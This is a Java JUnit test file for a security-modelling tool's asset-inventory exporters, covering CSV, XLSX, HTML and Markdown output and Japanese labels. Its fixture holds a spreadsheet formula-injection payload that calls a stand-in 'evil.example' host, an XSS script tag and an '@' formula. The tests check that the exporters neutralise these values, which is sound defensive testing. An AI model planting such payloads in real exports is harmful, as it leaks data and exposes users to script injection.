/*
 * Copyright (c) 2026 Toride contributors. SPDX-License-Identifier: EPL-2.0
 */
package org.toride.core.inventory;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.eclipse.emf.ecore.EClass;
import org.eclipse.emf.ecore.EClassifier;
import org.eclipse.emf.ecore.EEnum;
import org.junit.jupiter.api.Test;
import org.toride.core.io.ModelLoader;
import org.toride.model.InformationSystem;
import org.toride.model.SecurityModel;
import org.toride.model.TorideFactory;
import org.toride.model.ToridePackage;
import org.toride.model.edit.EditLabels;
import org.toride.testsupport.Repository;

/** The asset inventory: right content, stable output, and safe to open in a spreadsheet or a browser. */
class InventoryTest {

    private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";

    private static SecurityModel hostileModel() {
        SecurityModel model = TorideFactory.eINSTANCE.createSecurityModel();
        model.setName("m");
        InformationSystem system = TorideFactory.eINSTANCE.createInformationSystem();
        system.setId("sys-1");
        system.setName(HOSTILE);
        system.setDescription("x");
        system.getTags().add("<script>alert(1)</script>");
        system.getTags().add("@SUM(1+1)");
        model.getAssets().add(system);
        return model;
    }

    private static SecurityModel example() {
        return new ModelLoader().load(Repository.waterUtility()).model();
    }

    @Test
    void exampleInventoryHasEverySheetAndAsset() {
        List<InventoryTable> tables = new InventoryBuilder(Locale.ENGLISH).build(example());

        assertEquals(List.of("assets", "information", "services", "suppliers", "flows"),
                tables.stream().map(InventoryTable::key).toList());
        assertEquals(80, tables.get(0).rows().size());
        assertEquals(12, tables.get(1).rows().size());
        assertEquals(4, tables.get(2).rows().size());
        assertEquals(10, tables.get(3).rows().size());
        assertEquals(47, tables.get(4).rows().size());
        for (InventoryTable table : tables) {
            table.rows().forEach(row -> assertEquals(table.headers().size(), row.size(), table.key()));
        }
    }

    @Test
    void markdownOfTheExampleIsTheReviewedOne() throws IOException {
        SecurityModel example = example();
        StringWriter text = new StringWriter();
        MarkdownInventory.write("資産目録: " + example.getName(), new InventoryBuilder(Locale.JAPANESE).build(example),
                new PrintWriter(text));

        assertEquals(Files.readString(Repository.root().resolve("examples/water-utility.inventory.ja.md")),
                text.toString(), "inventory changed; review and update examples/water-utility.inventory.ja.md");
    }

    @Test
    void japaneseHeadersAndSubTierSuppliers() {
        List<InventoryTable> tables = new InventoryBuilder(Locale.JAPANESE).build(example());

        assertEquals("資産管理者", tables.get(0).headers().get(6));
        InventoryTable suppliers = tables.get(3);
        int tier = suppliers.headers().indexOf("階層");
        assertTrue(suppliers.rows().stream().anyMatch(r -> r.get(tier).equals("2")), "no second-tier supplier");
    }

    /** A Japanese reviewer reads 高 and 運用中, as in the model editor, not HIGH and OPERATIONAL. */
    @Test
    void japaneseValuesAreTheModelEditorsLabels() {
        List<InventoryTable> tables = new InventoryBuilder(Locale.JAPANESE).build(example());
        InventoryTable assets = tables.get(0);
        List<String> billing = assets.rows().stream().filter(r -> r.get(0).equals("sys-billing")).findFirst().orElseThrow();
        assertEquals(List.of("情報システム", "アプリケーション", "高", "運用中"), List.of(billing.get(2), billing.get(3),
                billing.get(assets.headers().indexOf("機密性")), billing.get(assets.headers().indexOf("ライフサイクル"))));

        // Every literal whose Japanese label differs from its name, and every class name with a label of its own.
        Set<String> raw = new HashSet<>();
        for (EClassifier classifier : ToridePackage.eINSTANCE.getEClassifiers()) {
            if (classifier instanceof EEnum type) {
                type.getELiterals().stream()
                        .filter(l -> !EditLabels.literal(l.getInstance(), Locale.JAPANESE).equals(l.getName()))
                        .forEach(l -> raw.add(l.getName()));
            } else if (classifier instanceof EClass type && !EditLabels.type(type, Locale.JAPANESE).equals(type.getName())) {
                raw.add(type.getName());
            }
        }
        List<String> found = new ArrayList<>();
        for (InventoryTable table : tables) {
            for (List<String> row : table.rows()) {
                for (String cell : row) {
                    for (String part : cell.split(", ")) {
                        if (raw.contains(part)) {
                            found.add(table.key() + " " + row.get(0) + ": " + part);
                        }
                    }
                }
            }
        }
        assertEquals(List.of(), found);
    }

    @Test
    void csvStartsWithAByteOrderMarkAndNeutralisesFormulas() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        CsvInventory.write(new InventoryBuilder(Locale.ENGLISH).build(hostileModel()).get(0), out);

        byte[] bytes = out.toByteArray();
        assertEquals((byte) 0xEF, bytes[0]);
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK("), csv);
        assertTrue(csv.contains("'@SUM(1+1)") || csv.contains("<script>alert(1)</script>, @SUM"), csv);
        assertFalse(csv.contains(",=HYPERLINK") || csv.contains("\"=HYPERLINK"), csv);
    }

    @Test
    void xlsxHasFrozenFilteredHeadersAndOnlyTextCells() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        XlsxInventory.write(new InventoryBuilder(Locale.ENGLISH).build(hostileModel()), out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertEquals(5, workbook.getNumberOfSheets());
            XSSFSheet assets = workbook.getSheetAt(0);
            assertEquals("Assets", assets.getSheetName());
            assertEquals(1, assets.getPaneInformation().getHorizontalSplitPosition());
            assertTrue(assets.getCTWorksheet().isSetAutoFilter());
            Cell name = assets.getRow(1).getCell(1);
            assertEquals(CellType.STRING, name.getCellType());
            assertEquals("'" + HOSTILE, name.getStringCellValue());
            for (Sheet sheet : workbook) {
                assertTrue(sheet.getColumnWidth(0) > 256, sheet.getSheetName() + " column width not set");
            }
        }
    }

    @Test
    void htmlEscapesModelTextAndLoadsNothing() {
        StringWriter html = new StringWriter();

        HtmlInventory.write("<b>m</b>", "en", new InventoryBuilder(Locale.ENGLISH).build(hostileModel()),
                new PrintWriter(html));

        String page = html.toString();
        assertFalse(page.contains("<script>"), page);
        assertTrue(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assertTrue(page.contains("<title>&lt;b&gt;m&lt;/b&gt;</title>"));
        assertFalse(page.contains("src=") || page.contains("href="), "the page must not load anything");
    }

    @Test
    void markdownEscapesTableBreakingText() {
        assertEquals("a \\| b \\<c\\>", MarkdownInventory.cell("a | b <c>"));
    }

    @Test
    void csvAndHtmlOfTheExampleAreTheReviewedOnes() throws IOException {
        SecurityModel example = example();
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        CsvInventory.write(new InventoryBuilder(Locale.ENGLISH).build(example).get(0), csv);
        StringWriter html = new StringWriter();
        HtmlInventory.write("資産目録: " + example.getName(), "ja", new InventoryBuilder(Locale.JAPANESE).build(example),
                new PrintWriter(html));

        assertArrayEquals(Files.readAllBytes(Repository.root().resolve("examples/water-utility.assets.csv")),
                csv.toByteArray(), "update examples/water-utility.assets.csv after reviewing the change");
        assertEquals(Files.readString(Repository.root().resolve("examples/water-utility.inventory.ja.html")),
                html.toString(), "update examples/water-utility.inventory.ja.html after reviewing the change");
    }
}
